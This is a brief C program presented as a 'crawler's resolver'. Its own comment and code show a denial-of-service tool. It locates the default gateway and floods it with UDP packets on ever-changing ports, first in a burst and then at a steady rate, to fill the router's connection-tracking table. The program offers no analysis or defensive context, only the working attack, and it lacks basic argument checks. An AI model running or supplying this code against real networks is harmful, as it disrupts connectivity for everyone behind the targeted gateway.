/* A crawler's resolver: each query is a new flow (UDP) to the gateway; the flows fill the connection tracking table. FIRST flows at once, then RATE a second. */
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/socket.h>
#include <netinet/in.h>
static unsigned gateway(void){
	FILE *f=fopen("/proc/net/route","r");char l[256],i[32];unsigned d,g;
	if(!f)return 0;
	while(fgets(l,sizeof l,f))if(sscanf(l,"%31s %x %x",i,&d,&g)==3&&d==0&&g){fclose(f);return g;}
	fclose(f);return 0;
}
#define S 12
int main(int c,char**v){
	long first=atol(v[1]),rate=atol(v[2]),n=0;int s[S];char q[40]={0x12,0x34,1,0,0,1};
	struct sockaddr_in a={.sin_family=AF_INET};a.sin_addr.s_addr=gateway();
	if(!a.sin_addr.s_addr){fprintf(stderr,"no gateway\n");return 1;}
	for(int i=0;i<S;i++)s[i]=socket(AF_INET,SOCK_DGRAM,0);
	for(;;n++){
		a.sin_port=htons(1024+n%60000);
		sendto(s[(n/60000)%S],q,sizeof q,MSG_DONTWAIT,(void*)&a,sizeof a);
		if(n==first){puts("ready");fflush(stdout);}
		if(n<first){if(n%400==0)usleep(3000);}
		else if(n%(rate/100)==0)usleep(10000);
	}
}
